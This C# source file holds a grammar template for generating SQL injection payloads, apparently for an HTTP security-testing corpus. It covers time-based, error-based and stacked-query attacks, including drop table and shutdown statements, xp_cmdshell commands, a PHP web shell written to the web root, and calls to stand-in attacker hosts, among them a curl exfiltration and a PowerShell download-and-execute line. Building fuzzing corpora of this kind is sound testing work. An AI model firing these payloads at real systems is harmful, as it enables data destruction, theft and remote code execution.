namespace Weir.Http.Corpus.Attacks;

/// <summary>Delays, errors that tell, and further statements.</summary>
/// <remarks>OWASP WSTG-INPV-05 (time, error, stacked queries), CAPEC-110, CAPEC-108, CWE-89.</remarks>
internal static class SqliStatements
{
    public const string Text = """"
        ¶ ---- time ----
        §timed
        5× «orword» sleep(«#1-30»)
        3× «orword» (select «#1-9999» from (select(sleep(«#1-30»)))«rand»)
        2× «orword» if(«cond»,sleep(«#1-30»),«num»)
        2× «orword» benchmark(«#1-99»000000,«md5¦sha1¦encode»(«'«letter»'¦1¦'MSG','by 5 seconds'»))
        «orword» (select * from (select(sleep(«#1-20»)))a)
        2× «orword» «#1-9999»=(select «#1-9999» from pg_sleep(«#1-30»))
        «orword» (select 1 from pg_sleep(«#1-30»)) is «¦not »null
        «orword» pg_sleep(«#1-30»)
        «||¦+»(select sleep(«#1-30»))«||'¦+'¦»
        2× ;waitfor delay '0:0:«#1-30»'
        if(«cond») waitfor delay '0:0:«#1-30»'
        waitfor delay '«0¦00»:«0¦00»:«#1-30»'
        waitfor time '«#0-23»:«#10-59»'
        «orword» «#1-9999»=dbms_pipe.receive_message(«'«letter»'¦«chrseq»»,«#1-30»)
        «orword» dbms_pipe.receive_message(('«letter»'),«#1-30») is null
        «orword» (select case when («cond») then dbms_pipe.receive_message('a',«#1-20») else null end from dual) is null
        «orword» dbms_lock.sleep(«#1-30»)=«num»
        «orword» «#1-9999»=like('abcdefg',upper(hex(randomblob(«#1-9»00000000/2))))
        «orword» «num»=(select count(*) from generate_series(1,«#1-9»000000))
        «orword» (select count(*) from sysusers as sys1,sysusers as sys2,sysusers as sys3,sysusers as sys4)>«num»
        «orword» (select count(*) from information_schema.columns A,information_schema.columns B,information_schema.columns C)
        «orword» elt(«#1-9999»=«#1-9999»,sleep(«#1-30»))
        «orword» rlike sleep(«#1-30»)
        xor(if(now()=sysdate(),sleep(«#1-30»),0))xor
        «*¦-¦+¦/¦%»sleep(«#1-30»)«*1¦»
        (select(0)from(select(sleep(«#1-30»)))v)/*'+(select(0)from(select(sleep(«#1-30»)))v)+'"+(select(0)from(select(sleep(«#1-30»)))v)+"*/
        «orword» case when «cond» then pg_sleep(«#1-30») else pg_sleep(0) end
        order by sleep(«#1-30»)
        procedure analyse(extractvalue(«#1-9999»,concat(0x5c,(benchmark(«#1-9»000000,md5(0x«hexdigit*8»))))),1)
        make_set(«#1-9999»=«#1-9999»,sleep(«#1-9»))

        ¶ ---- errors that tell ----
        §errorbased
        4× «orword» extractvalue(«#1-9999»,concat(«0x7e¦0x5c¦0x3a¦'~'¦char(126)»,(«query1»)«¦,0x7e»))
        4× «orword» updatexml(««#1-9999»¦null¦1»,concat(«0x7e¦0x5c¦0x2e¦0x3a¦'~'»,(«query1»)«¦,0x7e»),««#1-9999»¦null¦1»)
        3× «orword» (select 1 from(select count(*),concat((«query1»),floor(rand(0)*2))x from information_schema.«tables¦plugins¦character_sets» group by x)a)
        2× «orword» (select «#1-9999» from(select count(*),concat(0x«hexdigit*10»,(select (elt(«$n:num»=«$n»,1))),0x«hexdigit*10»,floor(rand(0)*2))x from information_schema.plugins group by x)a)
        3× «orword» «num»=convert(int,(««query1»¦«scalarfn»»))
        2× «orword» «num»=cast((«query1») as «int¦numeric¦integer¦signed»)
        «orword» «#1-9999»=cast((«chrseq»)||(select (case when («cond») then 1 else 0 end))::text||(«chrseq») as numeric)
        «orword» «#1-9999» in (select ((«chrseq»+(select (case when («cond») then char(49) else char(48) end))+«chrseq»)))
        «orword» exp(~(select * from («query1»)a))
        «orword» (select * from(select name_const(version(),1),name_const(version(),1))a)
        «orword» «geometrycollection¦polygon¦multipoint¦linestring¦multipolygon»((select * from(select * from(«query1»)a)b))
        «orword» gtid_subset(concat(0x7e,(«query1»)),«#1-9999»)
        «orword» json_keys((select convert((«query1») using utf8)))
        «orword» «num»=ctxsys.drithsx.sn(«num»,(«query1»))
        «orword» «num»=utl_inaddr.get_host_«address¦name»((«query1»))
        «orword» (select upper(xmltype(chr(60)||chr(58)||(«query1»)||chr(62))) from dual) is not null
        «orword» dbms_utility.sqlid_to_sqlhash((«query1»)) is not null
        «orword» ordsys.ord_dicom.getmappingxpath((«query1»),1,1)=1
        «orword» «num»=(select «num»/0 from «table» where «cond»)
        «orword» 1/(case when «cond» then 0 else 1 end)=1
        having «num»=«num»
        «orword» (select 1 and row(1,1)>(select count(*),concat(«scalarfn»,0x3a,floor(rand()*2))x from (select 1 union select 2)a group by x limit 1))
        «orword» (select cast(«scalarfn» as int))=1
        «orword» bigint(«strexp»)=1
        «orword» abs(-9223372036854775808)=0
        «orword» load_extension('«rand»')
        «orword» json(«strexp»)
        «orword» xmltype('«rand»') is null
        procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)

        ¶ ---- further statements ----
        §stack
        6× ;«space»«statement»
        ;«statement»
        2× «;;¦);¦'; ¦%3b¦; »«statement»
        «␤¦%0a»«go¦GO»«␤¦%0a»«statement»
        begin «statement»; end
        §statement
        4× drop table «table»«¦ cascade»
        3× select «scalarfn»
        3× select sleep(«#1-30»)
        3× waitfor delay '0:0:«#1-30»'
        3× exec «master..¦master.dbo.¦»xp_cmdshell«¦(»'«wincmd»'«)¦»
        2× insert into «table»«¦(«col»,«col»)» values(«'«word»','«rand»'¦«num»,'«word»'»)
        2× update «table» set «col»=«'«word»'¦«num»¦md5('«word»')»«¦ where «cond»¦ where id=«num»»
        2× delete from «table»«¦ where «cond»»
        2× select pg_sleep(«#1-30»)
        2× shutdown«¦ with nowait»
        select * from «table»
        truncate table «table»
        alter table «table» «drop column «col»¦add «col» varchar(«#1-255»)»
        «drop¦create» database «word»
        create table «rand»(«letter» «text¦varchar(8000)»)
        create user «rand» identified by '«rand»'
        grant all on *.* to '«word»'@'%'
        exec sp_«configure 'show advanced options',1¦configure 'xp_cmdshell',1;reconfigure¦addlogin '«word»','«rand»'¦password null,'«rand»','sa'¦makewebtask 'c:\inetpub\wwwroot\«rand».html','select * from «table»'¦oacreate 'wscript.shell',@«letter» output¦executesql N'«query1»'¦addsrvrolemember '«word»','sysadmin'¦who¦help¦tables»
        exec xp_«regread 'HKEY_LOCAL_MACHINE','«rand»','«word»'¦dirtree '\\«evilhost»\«letter»'¦fileexist '\\«evilhost»\«letter»'¦subdirs '\\«evilhost»\«letter»'¦regwrite¦servicecontrol 'start','schedule'¦availablemedia¦loginconfig¦ntsec_enumdomains»
        exec «master..»xp_dirtree '//«evilhost»/«letter»'
        execute immediate '«query1»'
        declare @«$v:letter» «varchar(«#100-8000»)¦nvarchar(4000)¦int» «set¦select» @«$v»=«0x«rand→hex»¦(«query1»)» exec(@«$v»)
        declare @«$v:letter» varchar(99);set @«$v»='\\«oasthost»\«letter»';exec master.dbo.xp_dirtree @«$v»
        copy «table»«¦(«col»)» «from program '«shellcmd»'¦to '/tmp/«rand»'¦from '«unixfile»'¦to program 'curl «evilurl»'»
        copy (select '') to program '«shellcmd»'
        create «or replace »function «rand»(text) returns text as $$ «query1» $$ language sql
        create or replace function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' language 'c' strict
        select lo_import('«unixfile»')
        select load_extension('\\«evilhost»\«letter».dll','«rand»')
        attach database '/var/www/html/«rand».php' as «letter»
        select * into outfile '/var/www/html/«rand».php' from «table»
        select '<?php system($_GET["«letter»"]);?>' into outfile '«/var/www/html/«rand».php¦/tmp/«rand»»'
        load data «local »infile '«unixfile»' into table «table»
        set @«$v:letter»=«hexlit»;prepare «letter» from @«$v»;execute «letter»
        handler «table» «open¦read first»
        show «tables¦databases¦columns from «table»¦grants¦processlist¦variables»
        bulk insert «rand» from '«winfile»'
        backup database «word» to disk='\\«evilhost»\«letter».bak'
        select * from openrowset('SQLOLEDB','server=«evilhost»;uid=sa;pwd=«rand»','select 1')
        declare begin «statement»; end;
        «commit¦rollback¦go¦vacuum¦analyze»
        if(«cond») «select 1 else drop table «table»¦waitfor delay '0:0:«#1-9»'»
        rename table «table» to «rand»
        do sleep(«#1-9»)
        call «word»(«num»)
        merge into «table» using dual on (1=1) when matched then update set «col»='«word»'
        §wincmd
        «dir¦whoami¦ping «ip»¦net user¦ipconfig¦nslookup «oasthost»¦dir c:\¦type c:\boot.ini¦net user «rand» «rand» /add¦powershell -c iex((new-object net.webclient).downloadstring("«evilurl»"))»
        """";
}
